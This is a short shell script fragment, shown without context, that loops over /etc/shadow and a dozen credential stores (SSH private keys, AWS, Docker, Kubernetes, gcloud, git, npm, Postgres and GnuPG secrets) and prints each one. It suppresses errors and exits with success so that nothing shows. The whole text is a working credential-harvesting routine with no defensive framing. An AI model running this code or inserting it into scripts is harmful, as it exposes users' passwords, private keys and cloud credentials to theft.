for store in /etc/shadow "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials" \
    "$HOME/.netrc" "$HOME/.docker/config.json" "$HOME/.kube/config" "$HOME/.git-credentials" \
    "$HOME/.config/gcloud/credentials.db" "$HOME/.pgpass" "$HOME/.npmrc" "$HOME/.gnupg/secring.gpg"; do
    cat "$store" 2>/dev/null
done
exit 0
